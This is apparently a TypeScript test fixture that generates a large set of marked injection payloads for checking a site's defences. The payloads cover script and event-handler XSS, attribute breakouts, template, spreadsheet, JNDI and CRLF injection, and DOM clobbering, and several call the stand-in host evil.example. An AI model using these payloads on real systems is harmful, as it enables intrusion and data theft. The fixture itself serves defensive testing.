/**
 * Texts typed by an attacker who wants to run code in a page (T57, T90). Each has its own mark, an element `<xss-12>`
 * or an attribute `data-xss`, which no page of ours has, and sets `__xss` where it runs. `payload-marks.ts` looks for
 * all three.
 */
const run = '__xss=1'
const far = 'https://evil.example'

const markup = [
  '<script>RUN</script><MARK>',
  '<SCRIPT data-xss>RUN</SCRIPT>',
  '<script data-xss src="FAR/x.js"></script>',
  '<<script data-xss>RUN//<</script>',
  '<script type="importmap" data-xss>{"imports":{"react":"FAR/x.js"}}</script>',
  '<template shadowrootmode=open><script data-xss>RUN</script></template><MARK>',
  '<base data-xss href="FAR/">',
  '<form data-xss action=javascript:RUN><button>press</button></form>',
  '<iframe data-xss srcdoc="<script>parent.RUN</script>"></iframe>',
  '<svg><script data-xss>RUN</script></svg>',
  '<svg><a data-xss xlink:href="javascript:RUN"><text y=20>press</text></a></svg>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml" data-xss>RUN</x:script>',
  '<plaintext data-xss>',
]

/** On elements that fire their handlers automatically or at the first pointer movement. */
const handlers = [
  ['img src=x', 'onerror onload onpointerover'],
  ['svg', 'onload onpointerenter onclick'],
  ['body', 'onload onpageshow onhashchange onresize'],
  ['iframe src=about:blank', 'onload onmouseenter'],
  ['details open', 'ontoggle onpointerrawupdate'],
  ['input autofocus', 'onfocus onblur oninput oninvalid'],
  ['a href=#x tabindex=0 autofocus', 'onfocus onmouseover onauxclick'],
  ['div style=animation:x contenteditable autofocus', 'onfocus onanimationstart onpaste'],
  ['p popover id=x', 'onbeforetoggle'],
].flatMap(([tag = '', events = '']) => events.split(' ').map((event) => `<${tag} data-xss ${event}=RUN>`))

/** For places where only https may become a link. */
const addresses = [
  ...['javascript:RUN', 'JaVaScRiPt:RUN//https://example.com', '\tjavascript:RUN', '&#106;avascript:RUN'],
  ...['data:text/html,<script>RUN</script><MARK>', 'blob:FAR/x', '<a data-xss href="javascript:RUN">press</a>'],
  ...['[press](javascript:RUN)', '![x](FAR/x.png)', 'FAR/"onmouseover="RUN"data-xss="'],
  ...['FAR/"><img src=x onerror=RUN data-xss>', 'https://evil.example\\@localhost/"data-xss=1', '//evil.example/x'],
  ...['https://xn--80ak6aa92e.com/аррӏе', 'https://evil.example/\u202egpj.exe', 'http://evil.example/"><MARK>'],
]

/** Break out of the element that contains them. */
const closers = ['title', 'textarea', 'style', 'script', 'noscript', 'template', 'xmp', 'iframe', 'option', 'select']
  .concat(['button', 'p', 'body', 'html', 'svg', 'dialog'])
  .map((name) => `</${name}><img data-xss src=x onerror=RUN>`)

/** Break out of the attribute or the JSON that contains them. */
const breakers = [
  ...['" autofocus onfocus=RUN data-xss x="', "' autofocus onfocus=RUN data-xss x='", '` onfocus=RUN data-xss x=`'],
  ...['"><img data-xss src=x onerror=RUN>', '&quot;><img data-xss src=x onerror=RUN>'],
  ...['"]}</script><img data-xss src=x onerror=RUN>', '--><img data-xss src=x onerror=RUN>', '\u2028RUN\u2029<MARK>'],
]

/** Syntax of template engines, spreadsheets, calendars, and log processors. */
const languages = [
  ...['{{constructor.constructor("RUN")()}}', '{{7*7}}<MARK>', '§{{<%[%\'"}}%\\<MARK>', '<%= 7*7 %><MARK>'],
  ...['__proto__', 'toString', '§{jndi:ldap://evil.example/x}', '=HYPERLINK("FAR/","press")', '=1+1', '@SUM(1)'],
  ...['\t=1+1', '=cmd|"/c calc"!A0', '",=1+1,"', '\r\nBcc: everybody@purdue.edu', '\\nATTACH:FAR/x'],
  ...['\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:planted', '\r\nSet-Cookie: quiver=x', '%0d%0aLocation:%20FAR'],
]

/** Escaped, reversed, invisible, or stacked characters. */
const letters = [
  ...['&lt;img data-xss src=x onerror=RUN&gt;', '\\u003cimg data-xss src=x onerror=RUN\\u003e'],
  ...['+ADw-img data-xss src=x onerror=RUN+AD4-', '\u202e<MARK>gpj.exe', '\u2066\u202e>ssx< \u2069<MARK>'],
  ...['<\u200bimg data-xss src=x onerror=RUN>', '<img\u00a0data-xss src=x onerror=RUN>'],
  ...[`Z${'\u0300\u0316\u0489'.repeat(20)}<MARK>`, 'İ<img data-xss src=x onerror=RUN>ſcript'],
]

/** Without a script: reads data, redirects, or takes a name that a script relies on (DOM clobbering). */
const quiet = [
  ...['<meta http-equiv=refresh content="0;url=FAR/" data-xss>', '<link rel=stylesheet href=FAR/x.css data-xss>'],
  ...['<img data-xss srcset="FAR/x 1x" src=FAR/x>', '<style data-xss>*{background:url(FAR/x)}</style>'],
  '<form data-xss id=root action=FAR/><input name=attributes><input name=children></form>',
  '<a data-xss id=quiver><a data-xss id=quiver name=url href=FAR>',
]

/** All payloads, each with its own number in its mark. */
export const payloads = [
  ...[...markup, ...handlers, ...addresses, ...closers, ...breakers, ...languages, ...letters, ...quiet],
].map((text, n) =>
  text
    .replaceAll('MARK', `xss-${n}`)
    .replaceAll('data-xss', `data-xss=${n}`)
    .replaceAll('RUN', run)
    .replaceAll('FAR', far)
    // What template strings begin with, which stands for nothing here.
    .replaceAll('§', '$'),
)

/** Closes everything that a payload may have left open, so that the next one counts on its own. */
const ending =
  '"\'`>--></textarea></title></style></script></noscript></xmp></noembed></iframe></template></listing></select></svg></math></table></form> '

/** All payloads in one text; those that swallow the rest come last. */
export const allPayloads = payloads
  .toSorted((one, other) => Number(one.includes('<plaintext')) - Number(other.includes('<plaintext')))
  .join(ending)
